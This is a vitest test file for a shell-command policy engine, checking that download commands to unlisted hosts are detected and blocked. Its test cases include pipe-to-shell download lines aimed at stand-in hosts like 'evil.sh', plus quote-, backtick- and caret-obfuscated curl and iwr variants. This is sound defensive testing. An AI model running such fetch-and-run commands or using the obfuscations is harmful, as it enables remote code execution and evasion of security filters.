import { describe, expect, it } from 'vitest';
import { evaluatePolicy } from '../engine';
import type { PolicyContext, Shell } from '../types';
import { urlArgumentPositions } from './bare';

const context: PolicyContext = {
  tenantState: 'active',
  trust: { level: 'extended', expiresAt: Number.MAX_SAFE_INTEGER },
  now: 0,
  blockedDestinations: [],
  // Only this host may be reached: any other destination found is reported.
  destinationAllowlist: [{ id: 'ok', kind: 'domain', value: 'ok.example.org' }],
  permittedScriptHashes: [],
  history: [],
};

function hosts(text: string, shell: Shell): string[] {
  const r = evaluatePolicy({ text, shell, platform: shell === 'powershell' || shell === 'cmd' ? 'windows' : 'linux', context });
  return [...new Set(r.destinations.map((d) => d.host))].sort();
}

describe('urlArgumentPositions', () => {
  it('marks positional words and the values of --url / -Uri', () => {
    expect([...urlArgumentPositions('curl', ['-fsSL', 'evil.sh'])]).toEqual([1]);
    expect([...urlArgumentPositions('curl', ['--url', 'a.sh', '-o', 'b.sh'])]).toEqual([1]);
    expect([...urlArgumentPositions('invoke-webrequest', ['-Uri', 'a.sh', '-OutFile', 'b.ps1'])]).toEqual([1]);
    expect([...urlArgumentPositions('iwr', ['a.sh', '-UseBasicParsing'])]).toEqual([0]);
  });
  it('leaves out option values: output files, uploads, data, configs, input lists', () => {
    expect([...urlArgumentPositions('curl', ['-o', 'x.sh', '-T', 'up.zip', '-K', 'c.md', '--data-binary', 'd.sh'])]).toEqual([]);
    expect([...urlArgumentPositions('curl', ['-so', 'x.sh'])]).toEqual([]);
    expect([...urlArgumentPositions('wget', ['-i', 'list.md', '-O-'])]).toEqual([]);
    expect([...urlArgumentPositions('curl', ['-d', '@body.json'])]).toEqual([]);
  });
  it('is empty for commands that are not download clients', () => {
    expect([...urlArgumentPositions('cat', ['install.sh'])]).toEqual([]);
    expect([...urlArgumentPositions('ssh', ['host.sh'])]).toEqual([]);
  });
});

describe('scheme-less destinations of download commands', () => {
  it.each<[string, Shell, string]>([
    ['curl evil.sh', 'bash', 'evil.sh'],
    ['curl -fsSL evil.sh | sh', 'bash', 'evil.sh'],
    ['wget example.com/x', 'bash', 'example.com'],
    ['wget -qO- get.example.py/install | bash', 'bash', 'get.example.py'],
    ['sudo -E curl --url payload.zip', 'bash', 'payload.zip'],
    ['c""url "evil.sh"', 'bash', 'evil.sh'],
    ['iwr evil.sh -UseBasicParsing', 'powershell', 'evil.sh'],
    ['Invoke-WebRequest -Uri evil.sh -OutFile a.ps1', 'powershell', 'evil.sh'],
    ['i`wr ev`il.sh', 'powershell', 'evil.sh'],
    ['c^u^r^l evil.sh', 'cmd', 'evil.sh'],
  ])('%s reaches %s', (text, shell, host) => {
    expect(hosts(text, shell)).toContain(host);
  });

  it.each<[string, Shell]>([
    ['cat install.sh', 'bash'],
    ['bash setup.sh', 'bash'],
    ['curl -o out.sh https://ok.example.org/i', 'bash'],
    ['curl -T upload.zip https://ok.example.org/up', 'bash'],
    ['curl -d @data.json https://ok.example.org/api', 'bash'],
    ['wget -i urls.md', 'bash'],
    ['Invoke-WebRequest -Uri https://ok.example.org/a -OutFile run.ps1', 'powershell'],
    ['echo see install.sh', 'bash'],
  ])('%s reaches nothing outside the allowlist', (text, shell) => {
    expect(hosts(text, shell).filter((h) => h !== 'ok.example.org')).toEqual([]);
  });

  it('a download from an unlisted file-extension host is refused for an allowlisted tenant', () => {
    const r = evaluatePolicy({ text: 'curl evil.sh -o x', shell: 'bash', platform: 'linux', context });
    expect(r.decision).toBe('block');
    expect(r.reasons.map((x) => x.code)).toContain('destination_not_allowed');
  });
});
